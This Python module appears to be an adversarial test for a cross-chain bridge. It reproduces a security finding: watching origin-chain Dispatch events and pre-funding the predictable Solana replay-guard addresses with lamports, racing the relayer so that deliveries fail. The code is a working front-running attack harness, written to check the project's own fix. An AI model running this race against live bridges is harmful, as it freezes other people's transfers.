"""Freezing a transfer to Solana by occupying its replay guards first (issue 12, finding 2).

A guard's address is public: ``create_with_seed(validator, first 32 hex chars of the message id, owner)``, and
the message id is public as soon as the origin's Mailbox emits ``Dispatch``. The old guard
(``CreateAccountWithSeed``, owner System) refused any address already holding lamports, so sending ~0.0009
SOL there first made every delivery of the message fail while ``delivered()`` (lamports > 0) said DELIVERED.

The attacker watches l1's Dispatch events at its latest block (not waiting for finality, so it is ahead of
the relayer, which waits for it), and for every message to Solana naming a planned recipient sends lamports,
from its own account only, to every multisig member's guard address of that message, racing the relayer.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

from solana.rpc.async_api import AsyncClient
from solana.rpc.commitment import Confirmed
from solana.rpc.core import RPCException
from solders.keypair import Keypair
from solders.pubkey import Pubkey
from solders.signature import Signature
from solders.system_program import ID as SYSTEM_PROGRAM_ID
from solders.system_program import TransferParams, transfer
from solders.transaction import Transaction

from adapters.solana import GUARD_SPACE, TokenBody, guard_address, guard_seed
from tests.adversarial.attacker import AttackerContext

POLL_S = 0.1
RENT_EMPTY_ACCOUNT = 890_880  # the rent-exempt minimum of an account without data: what froze the old guard


def _amounts(variation: str, members: list[Pubkey], message_id: bytes, guard_rent: int) -> dict[Pubkey, int]:
    """Where the attacker sends lamports for one message, and how many."""
    guards = [guard_address(m, message_id) for m in members]
    legacy = [Pubkey.create_with_seed(m, guard_seed(message_id), SYSTEM_PROGRAM_ID) for m in members]
    if variation == "rent_minimum":
        return dict.fromkeys(guards, RENT_EMPTY_ACCOUNT)
    if variation == "one_lamport":
        return dict.fromkeys(guards, 1)
    if variation == "large":
        return dict.fromkeys(guards, 10**9)  # 1 SOL each, lost to the attacker for good
    if variation == "guard_rent_and_old_addresses":  # exactly what a guard holds, and the old addresses too
        return {**dict.fromkeys(guards, guard_rent), **dict.fromkeys(legacy, RENT_EMPTY_ACCOUNT)}
    raise ValueError(f"unknown variation {variation!r}")


async def _confirmed(client: AsyncClient, signature: Signature, timeout_s: float = 30.0) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        status = (await client.get_signature_statuses([signature])).value[0]
        if status is not None:
            if status.err is not None:
                return False
            if str(status.confirmation_status).lower().endswith(("confirmed", "finalized")):
                return True
        await asyncio.sleep(0.05)  # polling the chain with a deadline
    return False


async def _send_lamports(client: AsyncClient, attacker: Keypair, address: Pubkey, lamports: int) -> dict[str, Any]:
    """One transfer from the attacker's own account (one per address: a refused one does not take others down)."""
    blockhash = (await client.get_latest_blockhash(Confirmed)).value.blockhash
    tx = Transaction.new_signed_with_payer([transfer(TransferParams(
        from_pubkey=attacker.pubkey(), to_pubkey=address, lamports=lamports))],
                                           attacker.pubkey(), [attacker], blockhash)
    try:
        signature = (await client.send_raw_transaction(bytes(tx))).value
    except RPCException as exc:
        return {"address": str(address), "lamports": lamports, "landed": False, "error": str(exc.args[0])[:300]}
    return {"address": str(address), "lamports": lamports, "landed": await _confirmed(client, signature),
            "tx": str(signature)}


async def race_guard_prefunding(ctx: AttackerContext, plan: dict[str, str], from_block: int, ready_file: str = "",
                                timeout_s: float = 180.0) -> dict[str, Any]:
    """``plan``: Solana recipient (base58) -> variation. For each l1 message to Solana paying a planned recipient
    (seen from ``from_block`` on), pre-fund its guard addresses as the variation says, then report what the
    chain showed right after: whether the recipient already had its tokens and each address's owner.
    ``ready_file`` is written once the attacker watches (so the test dispatches only then)."""
    adapters = ctx.adapters()
    l1, sol = adapters["l1"], adapters["solana"]
    rpc_url = ctx.settings.chains["solana"].rpc_url
    attacker = Keypair.from_seed(bytes.fromhex(ctx.keys["solana"].removeprefix("0x")))
    members = await sol.multisig_members()  # public: read from the multisig account
    solana_domain = int(sol.domain)
    seen: dict[str, dict[str, Any]] = {}
    next_block = from_block
    deadline = time.monotonic() + timeout_s
    async with AsyncClient(rpc_url, commitment=Confirmed) as client:
        guard_rent = (await client.get_minimum_balance_for_rent_exemption(GUARD_SPACE)).value
        await l1.latest_height()
        if ready_file:
            Path(ready_file).write_text("watching")
        while len(seen) < len(plan) and time.monotonic() < deadline:
            latest = int(await l1.latest_height())
            found = await l1.fetch_dispatched(next_block, latest) if latest >= next_block else []
            next_block = max(next_block, latest + 1)
            for dispatched in found:
                if int(dispatched.message.destination) != solana_domain:
                    continue
                recipient = str(Pubkey(TokenBody.decode(dispatched.message.body).recipient))
                variation = plan.get(recipient)
                if variation is None or recipient in seen:
                    continue
                noticed = time.monotonic()
                amounts = _amounts(variation, members, bytes(dispatched.id), guard_rent)
                sent = await asyncio.gather(*(_send_lamports(client, attacker, a, n) for a, n in amounts.items()))
                # right after: had the delivery already happened? (the attacker must have been first)
                balance = await sol.token_balance("TST", recipient)
                owners = {str(a): (str(acc.owner), len(acc.data)) if acc is not None else None
                          for a, acc in zip(amounts, (await client.get_multiple_accounts(list(amounts))).value,
                                            strict=True)}
                seen[recipient] = {"id": "0x" + bytes(dispatched.id).hex(), "variation": variation,
                                   "sent": sent, "recipient_balance_after_prefund": balance,
                                   "owners_after_prefund": owners, "seconds": round(time.monotonic() - noticed, 3)}
            await asyncio.sleep(POLL_S)  # polling l1 with a deadline
    return {"members": [str(m) for m in members], "messages": seen, "complete": len(seen) == len(plan)}
